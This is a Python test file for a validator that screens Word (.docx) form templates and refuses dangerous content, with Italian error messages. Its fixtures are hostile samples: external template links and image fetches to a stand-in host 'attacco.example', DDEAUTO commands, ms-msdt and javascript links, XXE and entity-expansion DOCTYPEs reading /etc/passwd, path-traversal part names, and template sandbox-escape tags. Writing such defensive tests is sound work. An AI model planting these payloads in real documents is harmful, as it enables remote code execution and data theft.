"""A template is a stranger's archive: what is not on a list is refused, with its part, what was found and what to do."""

import pytest
from docx_parts import (
    PNG,
    RELATIONS,
    TYPES,
    WORD,
    complex_field,
    part_of,
    related,
    sign,
    simple,
    typed,
    with_body,
    within,
)
from form_of_tests import FORM, PLAIN, TAGS
from printed import TEMPLATE_PART, lines, saying, with_parts

from merito.forms.templates import FormTemplateError, ready, rendered

SETTINGS, FOOTER, OF_SETTINGS = "word/settings.xml", "word/footer1.xml", "word/_rels/settings.xml.rels"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
DOCTYPE = '<!DOCTYPE x [<!ENTITY a "b">]>'
ATTACHED = "attachedTemplate"
SITE = "http://attacco.example/a"
OPEN, SHUT = sign("begin"), sign("separate") + sign("end")


def code(text: str) -> str:
    return f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'


def entity_in_relations() -> bytes:
    doctype = f'<?xml version="1.0"?><!DOCTYPE Relationships [<!ENTITY e "External"><!ENTITY u "{SITE}">]>'
    known = related(PLAIN, ATTACHED, "&u;", mode="&e;", of=OF_SETTINGS)
    return with_parts(known, {OF_SETTINGS: f"{doctype}{part_of(known, OF_SETTINGS)}".encode()})


def in_encoding(name: str, encoding: str, doctype: str = DOCTYPE) -> bytes:
    """A part with a DOCTYPE, in another encoding."""
    text = part_of(PLAIN, name)
    body = text[text.index("?>") + 2 :] if text.startswith("<?xml") else text
    return with_parts(PLAIN, {name: f'<?xml version="1.0" encoding="{encoding}"?>{doctype}{body}'.encode(encoding)})


def added(name: str, content: bytes = b"<a/>") -> bytes:
    return with_parts(PLAIN, {name: content})


def altered_type(part: str, kind: str) -> bytes:
    types = part_of(PLAIN, TYPES)
    start = types.index(f'PartName="/{part}"')
    old = types[start : types.index("/>", start)]
    return with_parts(PLAIN, {TYPES: types.replace(old, f'PartName="/{part}" ContentType="{kind}"').encode()})


def bound(store: str, text: str = "testo") -> str:
    binding = f"<w:sdtPr><w:dataBinding w:xpath='/a' w:storeItemID='{store}'/></w:sdtPr>"
    return f"<w:sdt>{binding}<w:sdtContent><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:sdtContent></w:sdt>"


def shape(attributes: str) -> str:
    return f"<w:p><w:r><w:pict><v:shape><v:imagedata {attributes}/></v:shape></w:pict></w:r></w:p>"


def picture(attributes: str) -> str:
    inner = f"<a:graphic><a:graphicData><pic:pic><a:blip {attributes}/></pic:pic></a:graphicData></a:graphic>"
    return f"<w:p><w:r><w:drawing><wp:inline>{inner}</wp:inline></w:drawing></w:r></w:p>"


def linked(kind: str = "hyperlink", target: str = SITE, xml: str = "") -> bytes:
    return with_body(related(PLAIN, kind, target, mode="External"), xml)


RELATED: dict[str, tuple[bytes, str]] = {
    "an attached template outside": (related(PLAIN, ATTACHED, SITE, mode="External", of=OF_SETTINGS), "file esterno"),
    "an attached template on a share": (
        related(PLAIN, ATTACHED, r"\\attacco\a.dotm", mode="External", of=OF_SETTINGS),
        "file esterno",
    ),
    "an attached template written with other quotes and names": (
        with_parts(
            PLAIN,
            {
                OF_SETTINGS: (
                    '<p:Relationships xmlns:p="http://schemas.openxmlformats.org/package/2006/relationships">'
                    f"<p:Relationship Target='{SITE}' TargetMode='External' Id='a' Type="
                    "'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate'/>"
                    "</p:Relationships>"
                ).encode()
            },
        ),
        "file esterno",
    ),
    "an attached template whose mode is written by characters": (
        related(PLAIN, ATTACHED, SITE, mode="&#69;xternal", of=OF_SETTINGS),
        "file esterno",
    ),
    "an attached template behind entities": (entity_in_relations(), "DOCTYPE"),
    "an attached template in UTF-16": (
        with_parts(
            PLAIN,
            {
                OF_SETTINGS: (
                    '<?xml version="1.0" encoding="UTF-16"?>'
                    + part_of(related(PLAIN, ATTACHED, SITE, mode="External", of=OF_SETTINGS), OF_SETTINGS)
                ).encode("utf-16")
            },
        ),
        "file esterno",
    ),
    "an attached template within": (
        related(PLAIN, ATTACHED, "numbering.xml", of=OF_SETTINGS),
        "il collegamento a un modello",
    ),
    "an image outside": (related(PLAIN, "image", SITE, mode="External"), "file esterno"),
    "an image outside without a mode": (related(PLAIN, "image", SITE), "non è nel documento"),
    "an image of the disk": (related(PLAIN, "image", "file:///etc/passwd"), "non è nel documento"),
    "an image above the package": (related(PLAIN, "image", "../../../etc/passwd"), "non è nel documento"),
    "an image that is another part": (related(PLAIN, "image", "styles.xml"), "che è altro"),
    "an image outside in the header's own relations": (
        related(PLAIN, "image", SITE, mode="External", of="word/_rels/footer1.xml.rels"),
        "file esterno",
    ),
    "an image outside in the numbering": (
        related(PLAIN, "image", SITE, mode="External", of="word/_rels/numbering.xml.rels"),
        "file esterno",
    ),
    "an embedded document (altChunk)": (related(PLAIN, "aFChunk", "styles.xml"), "altChunk"),
    "a linked document": (related(PLAIN, "subDocument", SITE, mode="External"), "file esterno"),
    "an OLE object outside": (related(PLAIN, "oleObject", SITE, mode="External"), "file esterno"),
    "a frame outside": (
        related(PLAIN, "frame", SITE, mode="External", of="word/_rels/webSettings.xml.rels"),
        "file esterno",
    ),
    "a source of mail merge": (
        related(PLAIN, "mailMergeSource", SITE, mode="External", of=OF_SETTINGS),
        "file esterno",
    ),
    "a transformation of what is saved": (
        related(PLAIN, "transform", SITE, mode="External", of=OF_SETTINGS),
        "file esterno",
    ),
    "a document that is outside": (
        related(PLAIN, "officeDocument", SITE, mode="External", of="_rels/.rels"),
        "file esterno",
    ),
    "a task pane": (
        related(
            PLAIN,
            "webextensiontaskpanes",
            "word/settings.xml",
            of="_rels/.rels",
            base="http://schemas.microsoft.com/office/2011/relationships/",
        ),
        "un modulo non può avere",
    ),
    "a custom part outside": (related(PLAIN, "customXml", SITE, mode="External"), "file esterno"),
    "a strange type": (related(PLAIN, "sconosciuto", "styles.xml"), "«sconosciuto»"),
    "a link to a file": (
        related(PLAIN, "hyperlink", "file:///C:/a.exe", mode="External"),
        "può portare solo a un sito",
    ),
    "a link to a share": (related(PLAIN, "hyperlink", r"\\attacco\a", mode="External"), "può portare solo a un sito"),
    "a link to a program": (related(PLAIN, "hyperlink", "ms-msdt:/id", mode="External"), "può portare solo a un sito"),
    "a link to a script": (
        related(PLAIN, "hyperlink", "javascript:a()", mode="External"),
        "può portare solo a un sito",
    ),
    "a link to a part": (related(PLAIN, "hyperlink", "styles.xml"), "può portare solo a un sito"),
    "an image by the id of a link": (linked(xml=picture('r:embed="z1"')), "prende il suo contenuto da un sito"),
    "an old image by the id of a link": (linked(xml=shape('r:id="z1"')), "prende il suo contenuto da un sito"),
    "an old image by the office's id of a link": (
        linked(xml=shape('o:relid="z1"')),
        "prende il suo contenuto da un sito",
    ),
    "relations of a part that is not there": (
        related(PLAIN, "image", "a.png", of="word/_rels/a.xml.rels"),
        "che non c'è",
    ),
    "relations within relations": (
        with_parts(
            PLAIN,
            {
                RELATIONS: part_of(PLAIN, RELATIONS)
                .replace("</Relationships>", "<x:a xmlns:x='urn:x'/></Relationships>")
                .encode()
            },
        ),
        "altro che il suo elenco",
    ),
}
PARTS: dict[str, tuple[bytes, str]] = {
    "a macro": (typed(PLAIN, {"word/vbaProject.bin": ("application/vnd.ms-office.vbaProject", b"x")}), "una macro"),
    "the data of a macro": (
        typed(PLAIN, {"word/vbaData.xml": ("application/vnd.ms-word.vbaData+xml", "<a/>")}),
        "una macro",
    ),
    "keys for a macro": (
        typed(PLAIN, {"word/customizations.xml": ("application/vnd.ms-word.keyMapCustomizations+xml", "<a/>")}),
        "una macro",
    ),
    "a document with macros": (
        altered_type(TEMPLATE_PART, "application/vnd.ms-word.document.macroEnabled.main+xml"),
        "una macro",
    ),
    "a .dotx": (altered_type(TEMPLATE_PART, f"{WORD}.template.main+xml"), "(.dotx)"),
    "an object": (
        typed(
            PLAIN, {"word/embeddings/oleObject1.bin": ("application/vnd.openxmlformats-officedocument.oleObject", b"x")}
        ),
        "un oggetto incorporato",
    ),
    "an object of another name and ending": (
        typed(PLAIN, {"word/media/a.png": ("application/vnd.openxmlformats-officedocument.oleObject", PNG)}),
        "un oggetto",
    ),
    "a workbook": (
        typed(
            PLAIN,
            {"word/embeddings/a.xlsx": ("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", b"x")},
        ),
        "un oggetto incorporato",
    ),
    "a control": (
        typed(PLAIN, {"word/activeX/activeX1.xml": ("application/vnd.ms-office.activeX+xml", "<a/>")}),
        "ActiveX",
    ),
    "a page of HTML": (
        typed(PLAIN, {"word/afchunk.mht": ("message/rfc822", b"x")}),
        "un documento incorporato (altChunk)",
    ),
    "an HTML chunk": (typed(PLAIN, {"word/a.html": ("text/html", b"<html/>")}), "una pagina HTML"),
    "an RTF chunk": (typed(PLAIN, {"word/a.rtf": ("application/rtf", rb"{\rtf}")}), "un documento RTF"),
    "an SVG image": (typed(PLAIN, {"word/media/a.svg": ("image/svg+xml", "<svg/>")}), "un'immagine SVG"),
    "an embedded font": (
        typed(PLAIN, {"word/fonts/a.odttf": ("application/vnd.openxmlformats-officedocument.obfuscatedFont", b"x")}),
        "un carattere incorporato",
    ),
    "an image that is none": (typed(PLAIN, {"word/media/a.png": ("image/png", b"MZ\x90")}), "non è l'immagine"),
    "a part without a type": (added("word/nascosta.exe", b"MZ"), "«non detto»"),
    "a part of no kind": (added("word/header9.xml"), "«application/xml»"),
    "relations under another name": (
        typed(PLAIN, {"word/a.xml": ("application/vnd.openxmlformats-package.relationships+xml", "<a/>")}),
        "non è dove il suo tipo vuole",
    ),
    "relations under another type": (
        typed(PLAIN, {OF_SETTINGS: (f"{WORD}.styles+xml", "<a/>")}),
        "non è dove il suo tipo",
    ),
    "two types of a part": (
        typed(PLAIN, {FOOTER: (f"{WORD}.footer+xml", part_of(PLAIN, FOOTER))}),
        "due tipi alla stessa parte",
    ),
    "a name from the root of the disk": (added("/etc/a.xml"), "un nome che in un documento"),
    "a name above the package": (added("../../a.xml"), "un nome che in un documento"),
    "a name above within": (added("word/../a.xml"), "un nome che in un documento"),
    "a name of Windows": (added("word\\a.xml"), "un nome che in un documento"),
    "a name with a drive": (added("C:/a.xml"), "un nome che in un documento"),
    "a name with a percent sign": (added("word/%2e%2e/a.xml"), "un nome che in un documento"),
    "a name with an empty folder": (added("word//a.xml"), "un nome che in un documento"),
    "two names that differ by capitals": (added("word/Document.xml", b"<a/>"), "maiuscole diverse"),
    "a DOCTYPE": (in_encoding(SETTINGS, "UTF-8"), "DOCTYPE"),
    "a DOCTYPE in UTF-16": (in_encoding(SETTINGS, "UTF-16"), "DOCTYPE"),
    "a DOCTYPE in UTF-16 in the document": (in_encoding(TEMPLATE_PART, "UTF-16"), "DOCTYPE"),
    "a DOCTYPE in Latin-1": (in_encoding(FOOTER, "ISO-8859-1"), "DOCTYPE"),
    "a DOCTYPE in EBCDIC": (in_encoding(FOOTER, "cp037"), "non è XML intero"),
    "a DOCTYPE in UTF-32": (in_encoding(FOOTER, "UTF-32"), "non è XML intero"),
    "a DOCTYPE in the list of types": (in_encoding(TYPES, "UTF-16"), "DOCTYPE"),
    "a DOCTYPE of the disk": (in_encoding(FOOTER, "UTF-8", '<!DOCTYPE x SYSTEM "file:///etc/passwd">'), "DOCTYPE"),
    "a DOCTYPE in the custom data": (in_encoding("customXml/item1.xml", "UTF-8"), "DOCTYPE"),
    "a DOCTYPE in the properties": (in_encoding("docProps/core.xml", "UTF-8"), "DOCTYPE"),
    "entities without end": (
        in_encoding(
            SETTINGS,
            "UTF-8",
            "<!DOCTYPE x [<!ENTITY a0 'ha'>"
            + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 20))
            + "]>",
        ),
        "DOCTYPE",
    ),
    "elements one within the other": (
        typed(PLAIN, {"word/header9.xml": (f"{WORD}.header+xml", "<a>" * 5000 + "</a>" * 5000)}),
        "senza fine",
    ),
    "too many elements": (
        typed(PLAIN, {"word/header9.xml": (f"{WORD}.header+xml", f"<a>{'<b/>' * 400_000}</a>")}),
        "troppi elementi",
    ),
    "a part that is too large": (
        typed(PLAIN, {"word/header9.xml": (f"{WORD}.header+xml", f"<w:hdr {W}>{' ' * (2 * 2**20)}</w:hdr>")}),
        "occupa più di 2 MB",
    ),
    "a part that is cut short": (with_parts(PLAIN, {FOOTER: part_of(PLAIN, FOOTER)[:-9].encode()}), "non è XML intero"),
    "a second document": (
        related(
            typed(PLAIN, {"word/altro.xml": (f"{WORD}.document.main+xml", part_of(PLAIN, TEMPLATE_PART))}),
            "officeDocument",
            "word/altro.xml",
            of="_rels/.rels",
        ),
        "non dice che il documento è word/document.xml",
    ),
    "a panel of forms from outside": (
        with_parts(
            PLAIN,
            {
                "customXml/item1.xml": (
                    b'<customXsn xmlns="http://schemas.microsoft.com/office/2006/metadata/customXsn">'
                    b"<xsnLocation>http://attacco.example/a.xsn</xsnLocation></customXsn>"
                )
            },
        ),
        "carica un pannello",
    ),
}
INCLUDE = 'INCLUDEPICTURE "http://attacco.example/a.png" \\d'
CHOSEN = f"<mc:AlternateContent><mc:Choice Requires='w'>{code('PAGE ')}</mc:Choice><mc:Fallback>{code(INCLUDE)}</mc:Fallback></mc:AlternateContent>"
BODIES: dict[str, tuple[str, str]] = {
    "a simple field that includes a picture": (simple(INCLUDE), "il campo «INCLUDEPICTURE"),
    "a simple field that starts a program": (simple(r'DDEAUTO c:\\a.exe "/c"'), "il campo «DDEAUTO"),
    "a simple field in small letters": (simple(r'includetext "c:\\a"'), "il campo «includetext"),
    "a simple field written by characters": (simple("&#73;NCLUDE a"), "il campo «INCLUDE"),
    "a simple field without an instruction": ("<w:p><w:fldSimple/></w:p>", "il campo «»"),
    "a simple field that begins with a line end": (simple("&#10;&#9;LINK Excel.Sheet a"), "il campo «LINK"),
    "a field in one run": (complex_field(f" {INCLUDE} "), "il campo «INCLUDEPICTURE"),
    "a field in several runs": (complex_field("IN", "CLUDE", "PICTURE ", '"http://a"'), "il campo «INCLUDEPICTURE"),
    "a field in several runs, one letter each": (complex_field(*"DDEAUTO c"), "il campo «DDEAUTO c»"),
    "a field without a result": (f"<w:p>{OPEN}{code('DDE a')}{sign('end')}</w:p>", "il campo «DDE a»"),
    "a field in an instruction": (
        f"<w:p>{OPEN}{code(' QUOTE ')}{OPEN}{code('DDEAUTO a')}{SHUT}{SHUT}</w:p>",
        "il campo «DDEAUTO a»",
    ),
    "a field whose code is the result of another": (
        f"<w:p>{OPEN}{OPEN}{code('TITLE')}{sign('separate')}<w:r><w:t>DDE</w:t></w:r>{sign('end')}{code('PAGE')}{SHUT}</w:p>",
        "nell'istruzione di un altro",
    ),
    "a simple field in an instruction": (
        f"<w:p>{OPEN}{code('PAGE')}<w:fldSimple w:instr='PAGE'/>{SHUT}</w:p>",
        "nell'istruzione di un altro",
    ),
    "a field in a result": (complex_field("PAGE", result=f"{OPEN}{code('DDE a')}{SHUT}"), "il campo «DDE a»"),
    "text in an instruction": (
        f"<w:p>{OPEN}{code('PAGE ')}<w:r><w:t>INCLUDEPICTURE a</w:t></w:r>{SHUT}</w:p>",
        "c'è altro («t»)",
    ),
    "text alone as an instruction": (f"<w:p>{OPEN}<w:r><w:t>DDE a</w:t></w:r>{SHUT}</w:p>", "c'è altro («t»)"),
    "a choice in an instruction": (f"<w:p>{OPEN}{CHOSEN}{SHUT}</w:p>", "fuori dal suo campo"),
    "a choice within a run": (
        f"<w:p>{OPEN}{code('PAGE ')}<w:r><mc:AlternateContent><mc:Fallback><w:instrText>DDE</w:instrText></mc:Fallback>"
        f"</mc:AlternateContent></w:r>{SHUT}</w:p>",
        "c'è altro («AlternateContent»)",
    ),
    "an unknown element around a part of an instruction": (
        f"<w:p>{OPEN}<x:a>{code('PAGE ')}</x:a>{code(INCLUDE)}{SHUT}</w:p>",
        "fuori dal suo campo",
    ),
    "a deleted part of an instruction": (
        f"<w:p>{OPEN}<w:del>{code('PAGE ')}</w:del>{code(INCLUDE)}{SHUT}</w:p>",
        "fuori dal",
    ),
    "a content control around a part of an instruction": (
        f"<w:p>{OPEN}<w:sdt><w:sdtContent>{code('PAGE ')}</w:sdtContent></w:sdt>{code(INCLUDE)}{SHUT}</w:p>",
        "fuori dal",
    ),
    "an instruction over two paragraphs": (
        f"<w:p>{OPEN}{code('PAGE ')}</w:p><w:p>{code(INCLUDE)}{SHUT}</w:p>",
        "altro («p»)",
    ),
    "an instruction outside of a field": (f"<w:p>{code('DDE a')}</w:p>", "fuori dal suo campo"),
    "an instruction in a result": (complex_field("PAGE", result=code("DDE a")), "fuori dal suo campo"),
    "a field without an end": (f"<w:p>{OPEN}{code('DDE a')}</w:p>", "comincia e non finisce"),
    "a field of another namespace": (
        "<w:p><x:fldSimple w:instr='DDE a'/></w:p>",
        "l'elemento «fldSimple» non è di un documento di Word",
    ),
    "the prefix of Word on another namespace": (
        "<w:p><y xmlns:w='urn:altro'><w:t>a</w:t></y></w:p>",
        "non è di un documento di Word",
    ),
    "another prefix of Word": (
        f"<q:p {W.replace(':w=', ':q=')}><q:r><q:t>a</q:t></q:r></q:p>",
        "non vi hanno il prefisso «w»",
    ),
    "hidden data in a field": (
        f"<w:p><w:r><w:fldChar w:fldCharType='begin'><w:fldData>AAAA</w:fldData></w:fldChar></w:r>{code('PAGE')}{SHUT}</w:p>",
        "dati nascosti in un campo",
    ),
    "a macro of a box to be filled in": (
        "<w:p><w:r><w:fldChar w:fldCharType='begin'><w:ffData><w:entryMacro w:val='a'/></w:ffData></w:fldChar></w:r>"
        f"{code('FORMTEXT')}{SHUT}</w:p>",
        "il nome di una macro",
    ),
    "a button for a macro": (simple("MACROBUTTON Attacco qui"), "il campo «MACROBUTTON"),
    "a text of the attached template": (simple("AUTOTEXT Attacco"), "il campo «AUTOTEXT"),
    "another document of a table of contents": (simple(r'RD "\\\\attacco\\a"'), "il campo «RD"),
    "a command for the printer": (simple("PRINT 27"), "il campo «PRINT"),
    "a field of a database": (simple(r'DATABASE \\d "http://a"'), "il campo «DATABASE"),
    "a name that stands for a field": (simple("segnalibro"), "il campo «segnalibro»"),
    "a code that only begins like one": (simple("PAGE&#160;INCLUDETEXT a"), "il campo «PAGE"),
    "a field with a link to a share": (simple(r'HYPERLINK "\\\\attacco\\a"'), "può portare solo a un sito"),
    "a field with a link to the disk": (complex_field('HYPERLINK "file:///c:/a"'), "può portare solo a un sito"),
    "a field with two links": (simple('HYPERLINK "http://a" "file:///c:/a"'), "può portare solo a un sito"),
    "a field with a tag": (simple("{{ titolo }}"), "il campo «{{ titolo }}»"),
    "a field made by a condition": (
        complex_field("INC{% if titolo %}LUDE{% endif %}PICTURE a"),
        "il campo «INC{% if titolo %}",
    ),
    "an argument with a tag": (simple('DATE \\@ "{{ titolo }}"'), "un'etichetta sta fuori dal testo"),
    "an embedded document": ('<w:altChunk r:id="rId1"/>', "altChunk"),
    "a linked document": ('<w:p><w:subDoc r:id="rId1"/></w:p>', "un documento collegato"),
    "an object": ('<w:p><w:r><w:object><o:OLEObject ProgID="a"/></w:object></w:r></w:p>', "un oggetto incorporato"),
    "a control": ('<w:p><w:r><w:control r:id="rId1"/></w:r></w:p>', "ActiveX"),
    "a video of the net": ('<w:p><x:webVideoPr embeddedHtml="&lt;iframe/&gt;"/></w:p>', "un video in rete"),
    "a linked image": (picture('r:link="rId1"'), "è collegato a un file"),
    "an old image from a site": (shape(f'src="{SITE}"'), "si riferisce a"),
    "an old image linked": (shape(f'r:href="{SITE}"'), "è collegato a un file"),
    "an old image of the office": (shape(f'o:href="{SITE}"'), "si riferisce a"),
    "an old filling": (
        f'<w:p><w:r><w:pict><v:shape><v:fill src="{SITE}"/></v:shape></w:pict></w:r></w:p>',
        "si riferisce a",
    ),
    "an old shape that leads to a share": (
        r'<w:p><w:r><w:pict><v:shape href="\\attacco\a"/></w:pict></w:r></w:p>',
        "si riferisce a",
    ),
    "a control bound to data that are not here": (
        bound("{00000000-0000-0000-0000-000000000000}"),
        "non sono nel documento",
    ),
    "a control bound to nothing told": (bound(""), "non sono nel documento"),
    "a tag that bound data would cover": (
        bound("{6C3C8BC8-F283-45AE-878A-BAB7291924A1}", "{{ titolo }}"),
        "che la coprirebbero",
    ),
    "a tag in an attribute": ('<w:p><w:bookmarkStart w:id="1" w:name="{{ titolo }}"/></w:p>', "fuori dal testo"),
    "a tag outside of a paragraph": ("<w:t>{{ titolo }}</w:t>", "fuori dal testo"),
    "a tag between the elements": ("<w:p>{{ titolo }}</w:p>", "fuori dal testo"),
}
ELSEWHERE = {
    "settings": (SETTINGS, '<w:attachedTemplate r:id="z1"/>', "il collegamento a un modello"),
    "settings of mail merge": (SETTINGS, "<w:mailMerge/>", "stampa unione"),
    "settings of saving": (SETTINGS, '<w:saveThroughXslt r:id="z1"/>', "XSLT"),
    "settings of the web": ("word/webSettings.xml", "<w:frameset/>", "riquadri"),
    "footer": (FOOTER, simple(INCLUDE), "il campo «INCLUDEPICTURE"),
    "styles": ("word/styles.xml", simple(INCLUDE), "il campo «INCLUDEPICTURE"),
    "numbering": (
        "word/numbering.xml",
        f"<w:numPicBullet>{shape(f'src={chr(34)}{SITE}{chr(34)}')}</w:numPicBullet>",
        "si riferisce",
    ),
    "theme": ("word/theme/theme1.xml", '<a:blip r:link="rId1"/>', "è collegato a un file"),
}
OTHERS = ("header", "footnotes", "endnotes", "comments", "document.glossary")


def refused(content: bytes) -> str:
    with pytest.raises(FormTemplateError) as told:
        ready(content, FORM, "prova.docx")
    assert all(one.startswith("prova.docx: ") for one in told.value.messages)
    return "\n".join(told.value.messages)


@pytest.mark.parametrize("kind", RELATED)
def test_a_relationship_that_is_not_on_the_list_or_leads_outside_is_refused(kind: str) -> None:
    content, why = RELATED[kind]
    assert why in refused(content)


@pytest.mark.parametrize("kind", PARTS)
def test_a_part_that_is_not_on_the_list_or_not_what_it_says_is_refused(kind: str) -> None:
    content, why = PARTS[kind]
    assert why in refused(content)


@pytest.mark.parametrize("kind", BODIES)
def test_content_that_reads_or_runs_something_else_is_refused(kind: str) -> None:
    xml, why = BODIES[kind]
    assert why in refused(with_body(PLAIN, xml))


@pytest.mark.parametrize("kind", ELSEWHERE)
def test_every_part_is_looked_through_and_not_the_document_alone(kind: str) -> None:
    part, xml, why = ELSEWHERE[kind]
    told = refused(within(PLAIN, part, xml))
    assert why in told
    assert f"parte {part}: " in told


@pytest.mark.parametrize("kind", OTHERS)
def test_a_field_that_reads_another_file_is_refused_in_the_parts_beside_the_document(kind: str) -> None:
    part = f"word/{kind.replace('document.', '')}9.xml"
    told = refused(typed(PLAIN, {part: (f"{WORD}.{kind}+xml", f"<w:hdr {W}>{simple(INCLUDE)}</w:hdr>")}))
    assert f"parte {part}: contiene il campo «INCLUDEPICTURE" in told


def test_what_is_refused_is_told_with_its_part_what_was_found_and_what_to_do() -> None:
    assert refused(related(PLAIN, ATTACHED, SITE, mode="External", of=OF_SETTINGS)) == (
        "prova.docx: parte word/_rels/settings.xml.rels: si riferisce a un file esterno "
        "(il collegamento a un modello: «http://attacco.example/a»): incorporare l'immagine, o staccare il modello e gli "
        "altri file collegati, e salvare di nuovo"
    )
    assert refused(typed(PLAIN, {"word/vbaProject.bin": ("application/vnd.ms-office.vbaProject", b"x")})) == (
        "prova.docx: parte word/vbaProject.bin: contiene una macro, che un modulo non può avere: "
        "toglierlo, e salvare di nuovo"
    )


def test_everything_that_is_wrong_in_a_template_is_told_together() -> None:
    content = related(with_body(PLAIN, simple("DDE a")), "image", SITE, mode="External")
    told = refused(typed(content, {"word/vbaProject.bin": ("application/vnd.ms-office.vbaProject", b"x")}))
    assert [why in told for why in ("una macro", "file esterno", "il campo «DDE a»")] == [True] * 3


def test_what_a_condition_leaves_of_a_field_is_examined_again() -> None:
    cut = f"<w:r><w:t>{{% if not titolo %}}</w:t></w:r>{sign('end')}<w:r><w:t>{{% endif %}}</w:t></w:r>"
    field = f"<w:p>{OPEN}{code('PAGE')}{sign('separate')}{cut}</w:p>"
    template = ready(with_body(PLAIN, field), FORM, "prova.docx")
    with pytest.raises(FormTemplateError, match="riempita: un campo comincia e non finisce"):
        rendered(template, TAGS)


def test_tags_that_break_the_document_are_told_and_nothing_is_written() -> None:
    crossed = "<w:p><w:r><w:t>{% if not titolo %}</w:t></w:r></w:p><w:p><w:r><w:t>{% endif %}</w:t></w:r><w:r><w:t>a</w:t></w:r></w:p>"
    template = ready(with_body(PLAIN, f"<w:tbl><w:tr><w:tc>{crossed}</w:tc></w:tr></w:tbl>"), FORM, "prova.docx")
    assert rendered(template, TAGS)
    across = (
        "<w:p><w:r><w:t>{% if not titolo %}</w:t></w:r></w:p>"
        "<w:tbl><w:tr><w:tc><w:p><w:r><w:t>{% endif %}</w:t></w:r></w:p></w:tc></w:tr></w:tbl>"
    )
    template = ready(with_body(PLAIN, across), FORM, "prova.docx")
    with pytest.raises(FormTemplateError, match="riempita: non è XML intero"):
        rendered(template, TAGS)


@pytest.mark.parametrize(
    "tag",
    [
        "{{ " + "(" * 3000 + "titolo" + ")" * 3000 + " }}",
        "{% if titolo %}" * 300 + "a" + "{% endif %}" * 300,
        "{{ firme[" + "9" * 5000 + "] }}",
        "{{ " + "not " * 3000 + "titolo }}",
    ],
    ids=["brackets", "conditions", "number", "not"],
)
def test_a_tag_without_end_is_told_and_no_traceback(tag: str) -> None:
    assert "un'etichetta non si legge" in refused(saying(PLAIN, tag))


@pytest.mark.parametrize(
    "tag",
    [
        "{% if titolo &lt; 3 %}a{% endif %}",
        "{{ firme[7].nome }}",
        "{% for a in firme[0] %}{{ a }}{% endfor %}{{ firme[9] }}",
    ],
)
def test_a_tag_that_fails_while_it_is_filled_is_told(tag: str) -> None:
    template = ready(saying(PLAIN, tag), FORM, "prova.docx")
    with pytest.raises(FormTemplateError, match=r"prova\.docx: il modulo non si riempie"):
        rendered(template, TAGS)


def test_loops_that_repeat_without_end_are_told() -> None:
    loops = "{% for a in voci %}{% for b in voci %}" + "x" * 10_000 + "{% endfor %}{% endfor %}"
    template = ready(saying(PLAIN, loops), FORM, "prova.docx")
    with pytest.raises(FormTemplateError, match="riempito occuperebbe più di 16 MB"):
        rendered(template, TAGS | {"voci": [{"factor": "a", "points": "1"}] * 1000})


@pytest.mark.parametrize(
    "tag",
    [
        "{{ self.__init__ }}",
        "{{ loop }}",
        "{{ caller() }}",
        "{{ namespace() }}",
        "{{ dict }}",
        "{{ joiner }}",
        "{{ lipsum }}",
        "{{ voci.append(1) }}",
        "{{ voci[0]['__class__'] }}",
        "{{ voci['__class__'] }}",
        "{{ titolo ~ ente }}",
        "{{ 'a' * 9 }}",
        "{{ titolo is defined }}",
        "{{ titolo|format(ente) }}",
        "{{ voci|map(attribute='__class__') }}",
        "{% with a = titolo %}{{ a }}{% endwith %}",
        "{% filter upper %}a{% endfilter %}",
        "{% autoescape false %}{{ titolo }}{% endautoescape %}",
        "{% extends 'a' %}",
        "{% block a %}{% endblock %}",
        "{% for a in voci recursive %}{{ loop(a) }}{% endfor %}",
        "{% for a in voci %}{{ a.__class__ }}{% endfor %}",
        "{% for a in voci %}{{ loop.cycle('a') }}{% endfor %}",
        "{% for a in voci %}{{ loop.__init__ }}{% endfor %}",
    ],
)
def test_a_tag_reaches_nothing_but_the_names_of_its_form(tag: str) -> None:
    refused(saying(PLAIN, tag))


def test_the_document_that_is_written_holds_the_parts_that_were_examined_and_no_others() -> None:
    hidden = PLAIN + b"after the end of the archive"
    filled = rendered(ready(b"before its beginning" + hidden, FORM, "prova.docx"), TAGS)
    assert filled.startswith(b"PK\x03\x04")
    assert b"the archive" not in filled
    assert b"its beginning" not in filled
    commented = with_parts(
        PLAIN, {FOOTER: part_of(PLAIN, FOOTER).replace("<w:p>", "<!-- un commento --><w:p>").encode()}
    )
    assert "un commento" not in part_of(rendered(ready(commented, FORM, "prova.docx"), TAGS), FOOTER)


def test_a_part_in_utf_16_is_read_and_filled() -> None:
    text = part_of(PLAIN, FOOTER)
    body = text[text.index("?>") + 2 :]
    utf16 = with_parts(PLAIN, {FOOTER: f'<?xml version="1.0" encoding="UTF-16"?>{body}'.encode("utf-16")})
    assert lines(rendered(ready(utf16, FORM, "prova.docx"), TAGS))[-1].startswith("piede · pagina ")
